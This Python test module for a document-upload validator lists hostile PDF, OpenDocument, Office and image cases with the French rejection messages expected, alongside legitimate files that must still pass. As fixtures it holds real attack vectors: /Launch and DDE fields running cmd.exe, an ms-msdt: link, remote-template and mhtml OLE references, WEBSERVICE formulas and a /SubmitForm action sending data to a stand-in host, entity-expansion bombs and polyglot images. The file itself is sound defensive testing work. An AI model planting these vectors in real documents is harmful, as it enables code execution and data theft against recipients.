_MACROS = "Ce document contient des macros : joignez une version sans macro."
_SCRIPTS = "Ce document contient des scripts ou des macros : joignez une version sans macro."
_DDE = (
    "Ce document contient une liaison DDE, qui peut lancer un programme : "
    "joignez une version sans liaison."
)
_OLE = "Ce document contient un objet OLE incorporé, qui peut lancer un programme : il est refusé."
_BAD_LINK = (
    "Ce document contient un lien qui n'est pas une adresse web ou de courriel : il est refusé."
)
_PDF_BAD_LINK = (
    "Le PDF contient un lien qui n'est pas une adresse web ou de courriel (lien) : il est refusé."
)
_PNG_TRAILING = (
    "Cette image PNG contient des données après sa fin (IEND), "
    "par exemple un autre fichier caché : elle est refusée."
)
_CODE = (
    "Cette image {} contient du code (HTML ou script) : elle est refusée. "
    "Enregistrez-la à nouveau depuis un logiciel d'images."
)

# case → (file name, content factory, the exact French message)
HOSTILE = {
    # PDF: scripts wherever a reader runs them
    "PDF: JavaScript on opening": (
        "a.pdf",
        lambda: pdf_opening(JS),
        _PDF_JS.format("action d'ouverture"),
    ),
    "PDF: JavaScript in a page's /AA": (
        "a.pdf",
        pdf_with_page_actions,
        _PDF_JS.format("action automatique d'une page"),
    ),
    "PDF: JavaScript in a link annotation": (
        "a.pdf",
        lambda: pdf_with_link(JS),
        _PDF_JS.format("lien"),
    ),
    "PDF: JavaScript at the end of an /OpenAction … /Next chain": (
        "a.pdf",
        pdf_next_chain,
        _PDF_JS.format("action d'ouverture"),
    ),
    "PDF: JavaScript in an array of /Next actions": (
        "a.pdf",
        lambda: pdf_next_chain(as_array=True),
        _PDF_JS.format("action d'ouverture"),
    ),
    "PDF: JavaScript in a cycle of actions": (
        "a.pdf",
        lambda: pdf_action_cycle(with_javascript=True),
        _PDF_JS.format("action d'ouverture"),
    ),
    "PDF: JavaScript in an AcroForm field's /AA": (
        "a.pdf",
        lambda: pdf_form_field({"/K": JS}),
        _PDF_JS.format("champ de formulaire"),
    ),
    "PDF: document-level JavaScript (/Names)": (
        "a.pdf",
        pdf_document_javascript,
        _PDF_JS.format("au niveau du document"),
    ),
    "PDF: JavaScript when the document closes (catalog /AA)": (
        "a.pdf",
        lambda: pdf_with_document_actions(JS),
        _PDF_JS.format("action automatique du document"),
    ),
    "PDF: JavaScript behind escaped names (/J#61vaScript)": (
        "a.pdf",
        pdf_escaped_names,
        _PDF_JS.format("action d'ouverture"),
    ),
    "PDF: JavaScript inside an object stream": (
        "a.pdf",
        pdf_object_stream,
        _PDF_JS.format("action d'ouverture"),
    ),
    "PDF: JavaScript added by an incremental update": (
        "a.pdf",
        pdf_incremental_update,
        _PDF_JS.format("action d'ouverture"),
    ),
    "PDF: JavaScript left in an earlier revision": (
        "a.pdf",
        lambda: pdf_incremental_update(script_in_update=False),
        "Le PDF contient du JavaScript : il est refusé.",
    ),
    "PDF: JavaScript in an object no table lists": (
        "a.pdf",
        pdf_unlisted_object,
        "Le PDF contient du JavaScript : il est refusé.",
    ),
    "PDF: JavaScript in an object stream no table lists": (
        "a.pdf",
        pdf_unlisted_object_stream,
        "Le PDF contient du JavaScript : il est refusé.",
    ),
    # PDF: other actions that leave the document
    "PDF: /Launch in a link annotation": (
        "a.pdf",
        lambda: pdf_with_link({"/S": "/Launch", "/F": "cmd.exe"}),
        "Le PDF lance un programme ou ouvre un fichier (lien) : il est refusé.",
    ),
    "PDF: /Launch written as a string, not a name": (
        "a.pdf",
        lambda: pdf_with_link({"/S": pdf_value("Launch"), "/F": "cmd.exe"}),
        "Le PDF lance un programme ou ouvre un fichier (lien) : il est refusé.",
    ),
    "PDF: /Launch in a form button": (
        "a.pdf",
        lambda: pdf_button({"/S": "/Launch", "/Win": {"/F": "cmd.exe", "/P": "/c calc"}}),
        "Le PDF lance un programme ou ouvre un fichier (annotation) : il est refusé.",
    ),
    "PDF: /SubmitForm when the document closes": (
        "a.pdf",
        lambda: pdf_with_document_actions(
            {"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": "https://192.0.2.7/collecte"}}
        ),
        "Le PDF envoie des données de formulaire vers l'extérieur (action automatique du document)"
        " : il est refusé.",
    ),
    "PDF: /ImportData on opening": (
        "a.pdf",
        lambda: pdf_opening({"/S": "/ImportData", "/F": "donnees.fdf"}),
        "Le PDF importe des données depuis un autre fichier (action d'ouverture) : il est refusé.",
    ),
    "PDF: /GoToR to a file on a network share": (
        "a.pdf",
        lambda: pdf_with_link(
            {"/S": "/GoToR", "/F": "\\\\192.0.2.7\\partage\\a.pdf", "/D": [0, "/Fit"]}
        ),
        "Le PDF ouvre un autre fichier (lien) : il est refusé.",
    ),
    "PDF: /GoToE into an embedded file": (
        "a.pdf",
        lambda: pdf_with_link({"/S": "/GoToE", "/T": {"/R": "/C", "/N": "piece.pdf"}}),
        "Le PDF ouvre un fichier qu'il contient (lien) : il est refusé.",
    ),
    "PDF: /Rendition on opening": (
        "a.pdf",
        lambda: pdf_opening({"/S": "/Rendition", "/OP": 0}),
        "Le PDF lit un contenu multimédia (action d'ouverture) : il est refusé.",
    ),
    "PDF: an action of unknown type": (
        "a.pdf",
        lambda: pdf_opening({"/Type": "/Action", "/S": "/Execute"}),
        "Le PDF contient une action inconnue (action d'ouverture) : il est refusé.",
    ),
    "PDF: javascript: link": (
        "a.pdf",
        lambda: pdf_with_link({"/S": "/URI", "/URI": " JavaScript:app.alert(1)"}),
        _PDF_BAD_LINK,
    ),
    "PDF: file: link to a network share": (
        "a.pdf",
        lambda: pdf_with_link({"/S": "/URI", "/URI": "file://192.0.2.7/partage/a.exe"}),
        _PDF_BAD_LINK,
    ),
    "PDF: a web address opened without a click": (
        "a.pdf",
        lambda: pdf_opening({"/S": "/URI", "/URI": "https://192.0.2.7/pixel"}),
        "Le PDF ouvre une adresse internet sans qu'on clique (action d'ouverture) : il est refusé.",
    ),
    # PDF: embedded files, multimedia, dynamic forms
    "PDF: embedded file (/EmbeddedFiles)": (
        "a.pdf",
        pdf_with_attachment,
        "Le PDF contient des fichiers incorporés (au niveau du document) : il est refusé.",
    ),
    "PDF: file attachment annotation": (
        "a.pdf",
        pdf_file_attachment_annotation,
        "Le PDF contient des fichiers incorporés (annotation) : il est refusé.",
    ),
    "PDF: RichMedia annotation": (
        "a.pdf",
        lambda: pdf_annotation({"/Type": "/Annot", "/Subtype": "/RichMedia", "/Rect": RECT}),
        "Le PDF contient un contenu multimédia ou interactif (annotation) : il est refusé.",
    ),
    "PDF: XFA form": (
        "a.pdf",
        lambda: pdf_form_field(xfa=True),
        "Le PDF contient un formulaire dynamique XFA : il est refusé.",
    ),
    # PDF: malformed
    "PDF: page tree that contains itself": (
        "a.pdf",
        pdf_page_tree_loop,
        "Ce PDF est illisible ou endommagé : enregistrez-le à nouveau.",
    ),
    # ODF
    "ODT: Basic macro": ("a.odt", odt_basic_macro, _MACROS),
    "ODT: Basic macro run on dom:load": (
        "a.odt",
        lambda: odt_basic_macro(with_event=True),
        _MACROS,
    ),
    "ODT: dom:load event calling a macro": (
        "a.odt",
        lambda: odt_with(head=DOM_LOAD),
        "Ce document lance une macro sur un événement (« dom:load ») : "
        "joignez une version sans macro.",
    ),
    "ODT: form button running a macro": (
        "a.odt",
        lambda: odt_with(
            '<form:button form:name="ok"><office:event-listeners><script:event-listener'
            ' script:language="ooo:script" script:event-name="form:performaction"'
            ' xlink:href="vnd.sun.star.script:Standard.Module1.Main"/></office:event-listeners>'
            "</form:button>"
        ),
        "Ce document lance une macro sur un événement (« form:performaction ») : "
        "joignez une version sans macro.",
    ),
    "ODT: Python script in the package": (
        "a.odt",
        lambda: odt_with(
            extra_entries=[("Scripts/python/outil.py", b"import os\nos.system('calc')")]
        ),
        _MACROS,
    ),
    "ODT: inline JavaScript (text:script)": (
        "a.odt",
        lambda: odt_with(
            '<text:p><text:script script:language="JavaScript">x()</text:script></text:p>'
        ),
        _SCRIPTS,
    ),
    "ODT: hyperlink running a macro": (
        "a.odt",
        lambda: odt_with(
            '<text:p><text:a xlink:href="vnd.sun.star.script:Standard.M.Main">ok</text:a></text:p>'
        ),
        _SCRIPTS,
    ),
    "ODT: hyperlink to ms-msdt:": (
        "a.odt",
        lambda: odt_with(
            '<text:p><text:a xlink:href="ms-msdt:/id PCWDiagnostic">aide</text:a></text:p>'
        ),
        _BAD_LINK,
    ),
    "ODT: hyperlink to a program next to the document": (
        "a.odt",
        lambda: odt_with(
            '<text:p><text:a xlink:href="../outils/mise-a-jour.exe">maj</text:a></text:p>'
        ),
        _BAD_LINK,
    ),
    "ODT: hyperlink to a program on the local disk": (
        "a.odt",
        lambda: odt_with(
            '<text:p><text:a xlink:href="C:\\Windows\\System32\\calc.exe">x</text:a></text:p>'
        ),
        _BAD_LINK,
    ),
    "ODT: Basic macro inside an embedded object": (
        "a.odt",
        lambda: odt_with(extra_entries=[("Object 1/Basic/Standard/Module1.xml", BASIC_MODULE)]),
        _MACROS,
    ),
    "ODT: image loaded from the web": (
        "a.odt",
        lambda: odt_with(
            '<draw:frame><draw:image xlink:href="https://192.0.2.7/pixel.png"/></draw:frame>'
        ),
        _REMOTE.format("adresse externe"),
    ),
    "ODT: image loaded from a network share": (
        "a.odt",
        lambda: odt_with(
            '<draw:frame><draw:image xlink:href="\\\\192.0.2.7\\partage\\a.png"/></draw:frame>'
        ),
        _REMOTE.format("adresse externe"),
    ),
    "ODT: Java applet": (
        "a.odt",
        lambda: odt_with('<draw:frame><draw:applet draw:code="Outil.class"/></draw:frame>'),
        "Ce document contient un programme incorporé (applet ou module externe) : il est refusé.",
    ),
    "ODT: OLE object": (
        "a.odt",
        lambda: odt_with(
            '<draw:frame><draw:object-ole xlink:href="./Object 2"/></draw:frame>',
            extra_entries=[("Object 2", OLE_HEADER)],
        ),
        _OLE,
    ),
    "ODT: password-protected (encrypted parts)": (
        "a.odt",
        lambda: odf_bytes(
            extra_entries=[],
            manifest=MANIFEST.replace(
                b'media-type="text/xml"/>',
                b'media-type="text/xml"><manifest:encryption-data manifest:checksum="x"/>'
                b"</manifest:file-entry>",
            ),
            content=b"\x8f\x12 not xml, ciphered",
        ),
        "Ce document est chiffré : joignez une version non protégée.",
    ),
    "ODS: DDE link": (
        "a.ods",
        lambda: ods_with("<table:dde-links><table:dde-link/></table:dde-links>"),
        _DDE,
    ),
    "ODS: DDE() formula": (
        "a.ods",
        lambda: ods_with(
            "<table:table><table:table-row><table:table-cell"
            ' table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/>'
            "</table:table-row></table:table>"
        ),
        _DDE,
    ),
    "ODS: WEBSERVICE() formula": (
        "a.ods",
        lambda: ods_with(
            "<table:table><table:table-row><table:table-cell"
            ' table:formula="of:=WEBSERVICE(&quot;https://192.0.2.7/p?&quot;&amp;[.A1])"/>'
            "</table:table-row></table:table>"
        ),
        _REMOTE.format("fonction WEBSERVICE"),
    ),
    "ODT: entity expansion (billion laughs)": (
        "a.odt",
        lambda: odf_bytes(
            content=b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
            b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:'
            b'xmlns:office:1.0">'
            b"&b;</office:document-content>"
        ),
        "Ce document bureautique est endommagé ou n'est pas un document accepté.",
    ),
    # OOXML
    "DOCX: remote template (attachedTemplate)": (
        "a.docx",
        docx_remote_template,
        _REMOTE.format("modèle distant"),
    ),
    "DOCX: mhtml OLE object (external relationship)": (
        "a.docx",
        lambda: docx_with_rels(
            ("oleObject", "mhtml:http://192.0.2.7/a.html!x-usc:http://192.0.2.7/a.html", "External")
        ),
        _REMOTE.format("objet OLE distant"),
    ),
    "DOCX: external OLE object not declared External": (
        "a.docx",
        lambda: docx_with_rels(("oleObject", "https://192.0.2.7/a.html!", None)),
        _REMOTE.format("objet OLE distant"),
    ),
    "DOCX: remote frame (webSettings)": (
        "a.docx",
        lambda: docx_with_rels(
            ("frame", "http://192.0.2.7/cadre.docx", "External"),
            part="word/_rels/webSettings.xml.rels",
        ),
        _REMOTE.format("cadre distant"),
    ),
    "DOCX: remote sub-document": (
        "a.docx",
        lambda: docx_with_rels(("subDocument", "http://192.0.2.7/sous.docx", "External")),
        _REMOTE.format("sous-document distant"),
    ),
    "DOCX: image from a network share": (
        "a.docx",
        lambda: docx_with_rels(("image", "\\\\192.0.2.7\\partage\\pixel.png", None)),
        _REMOTE.format("image distante"),
    ),
    "DOCX: hyperlink to a network share": (
        "a.docx",
        lambda: docx_with_rels(("hyperlink", "file://192.0.2.7/partage/a.exe", "External")),
        _BAD_LINK,
    ),
    "DOCX: hyperlink to a script next to the document": (
        "a.docx",
        lambda: docx_with_rels(("hyperlink", "outils/lancer.vbs", "External")),
        _BAD_LINK,
    ),
    "DOCX: DDEAUTO field split over runs": (
        "a.docx",
        lambda: docx_field([" DD", 'EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"']),
        _DDE,
    ),
    "DOCX: simple DDE field": (
        "a.docx",
        lambda: docx_bytes(
            body=DOCX_BODY + '<w:p><w:fldSimple w:instr="DDE cmd &quot;/c calc&quot; x"/></w:p>'
        ),
        _DDE,
    ),
    "DOCX: ActiveX control": (
        "a.docx",
        lambda: docx_bytes(extra_entries=[("word/activeX/activeX1.xml", b"<ax:ocx/>")]),
        "Ce document contient des contrôles ActiveX : il est refusé.",
    ),
    "DOCX: embedded OLE object": (
        "a.docx",
        lambda: docx_embedding("oleObject1.bin", OLE_HEADER),
        _OLE,
    ),
    "DOCX: embedded workbook with macros": (
        "a.docx",
        lambda: docx_embedding(
            "Feuille.xlsx", xlsx_bytes(extra_entries=[("xl/vbaProject.bin", b"\x00" * 16)])
        ),
        "Ce document contient un document incorporé refusé. " + _MACROS,
    ),
    "XLSX: DDE formula": (
        "a.xlsx",
        lambda: xlsx_bytes(rows='<row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f></c></row>'),
        _DDE,
    ),
    "XLSX: WEBSERVICE formula": (
        "a.xlsx",
        lambda: xlsx_bytes(
            rows='<row r="1"><c r="A1" t="str"><f>_xlfn.WEBSERVICE("https://192.0.2.7/"&amp;B1)</f>'
            "</c></row>"
        ),
        _REMOTE.format("fonction WEBSERVICE"),
    ),
    "XLSX: DDE link": ("a.xlsx", lambda: xlsx_external_workbook(dde=True), _DDE),
    "XLSX: link to a workbook on a network share": (
        "a.xlsx",
        xlsx_external_workbook,
        _REMOTE.format("lien vers un autre classeur"),
    ),
    # Images
    "PNG: HTML page appended after IEND": ("a.png", lambda: png_bytes() + HTML_PAGE, _PNG_TRAILING),
    "PNG: ZIP archive appended after IEND": (
        "a.png",
        lambda: png_bytes() + ZIP_ARCHIVE,
        _PNG_TRAILING,
    ),
    "PNG: script in a tEXt chunk": (
        "a.png",
        lambda: png_with_text(b"tEXt", b"<script>alert(1)</script>"),
        _CODE.format("PNG"),
    ),
    "PNG: HTML in a compressed zTXt chunk": (
        "a.png",
        lambda: png_with_text(b"zTXt", HTML_PAGE),
        _CODE.format("PNG"),
    ),
    "PNG: HTML in a compressed iTXt chunk": (
        "a.png",
        lambda: png_with_text(b"iTXt", HTML_PAGE),
        _CODE.format("PNG"),
    ),
    "PNG: impossible pixel format (only Pillow tells)": (
        "a.png",
        lambda: png_with_header(bit_depth=3, colour_type=2),
        "Cette image PNG est endommagée.",
    ),
    "PNG: 20 000 × 20 000 pixels announced (decompression bomb, only Pillow tells)": (
        "a.png",
        lambda: png_with_header(side=20000),
        "Cette image PNG a des dimensions invalides ou démesurées.",
    ),
    "PNG: HTML in a private ancillary chunk": (
        "a.png",
        lambda: png_with_chunk(b"htMl", HTML_PAGE),
        _CODE.format("PNG"),
    ),
    "JPEG: HTML page in an APP segment": (
        "a.jpg",
        lambda: jpeg_with_segment(b"\xe9", HTML_PAGE),
        _CODE.format("JPEG"),
    ),
    "JPEG: HTML page appended after EOI": (
        "a.jpg",
        lambda: jpeg_bytes() + HTML_PAGE,
        "Cette image JPEG contient des données après sa fin (EOI), "
        "par exemple un autre fichier caché : elle est refusée.",
    ),
    "JPEG: ZIP archive appended after EOI, ending like a JPEG": (
        "a.jpg",
        lambda: jpeg_bytes() + ZIP_ARCHIVE + b"\xff\xd9",
        "Cette image JPEG contient des données après sa fin (EOI), "
        "par exemple un autre fichier caché : elle est refusée.",
    ),
    "JPEG: script in a comment segment": (
        "a.jpg",
        lambda: jpeg_with_comment(b"<script>alert(1)</script>"),
        _CODE.format("JPEG"),
    ),
}

# Documents that must keep passing: what the platform and office suites really produce.
LEGITIMATE = {
    "PDF with web, mail and internal links, bookmarks": (pdf_ordinary_links, "application/pdf"),
    "PDF whose actions run each other (cycle)": (pdf_action_cycle, "application/pdf"),
    "PDF with a field and harmless actions": (
        lambda: pdf_form_field({"/Fo": {"/S": "/ResetForm"}}),
        "application/pdf",
    ),
    "XLSX written by openpyxl": (
        openpyxl_workbook,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    "PNG written by Pillow with text chunks": (lambda: pillow_image("PNG"), "image/png"),
    "JPEG written by Pillow": (lambda: pillow_image("JPEG", quality=85), "image/jpeg"),
    "progressive JPEG with restart markers": (
        lambda: pillow_image("JPEG", progressive=True, restart_marker_blocks=1),
        "image/jpeg",
    ),
    "PNG whose pixel values spell « <svg> »": (png_with_markup_bytes_in_pixels, "image/png"),
    "JPEG padded with NUL bytes": (lambda: pillow_image("JPEG") + b"\x00" * 16, "image/jpeg"),
}
